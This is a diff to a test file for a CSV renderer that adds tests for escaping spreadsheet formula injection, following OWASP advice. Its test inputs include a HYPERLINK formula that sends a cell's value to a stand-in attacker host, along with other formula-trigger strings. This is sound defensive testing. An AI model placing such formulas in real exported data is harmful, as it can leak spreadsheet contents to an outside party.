@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { csvField, csvLine } from '../../src/render/outputs/csv.js';
+import { csvField, csvLine, defuseFormula } from '../../src/render/outputs/csv.js';
 import { siteFixture } from '../fixtures/site-fixture.js';
 import { renderFiles } from './helpers.js';
 
@@ -10,6 +10,16 @@ describe('responsibilities.csv', () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField('two\nlines')).toBe('"two\nlines"');
     expect(csvLine(['a', 'b,c'])).toBe('a,"b,c"\r\n');
+  });
+
+  test('defuses spreadsheet formulas with a leading quote (OWASP)', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(defuseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
+    expect(defuseFormula('plain = text')).toBe('plain = text');
+    expect(defuseFormula('')).toBe('');
+    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
+    expect(csvField('-1')).toBe("'-1");
+    expect(csvField('\r=cmd')).toBe('"\'\r=cmd"');
+    expect(csvLine(['@SUM(A1)', 'ok'])).toBe("'@SUM(A1),ok\r\n");
   });
 
   test('one line per row with the row URL under the base', () => {
